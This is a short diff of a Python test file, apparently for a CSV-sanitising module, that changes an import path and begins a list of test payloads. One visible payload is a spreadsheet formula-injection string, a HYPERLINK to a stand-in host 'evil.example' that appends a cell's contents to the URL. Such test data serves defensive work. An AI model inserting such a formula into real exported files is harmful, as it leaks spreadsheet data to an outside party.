@@ -9,7 +9,7 @@ from decimal import Decimal
 import pandas as pd
 import pytest
 
-from config import csvsafe
+from core import csvsafe
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
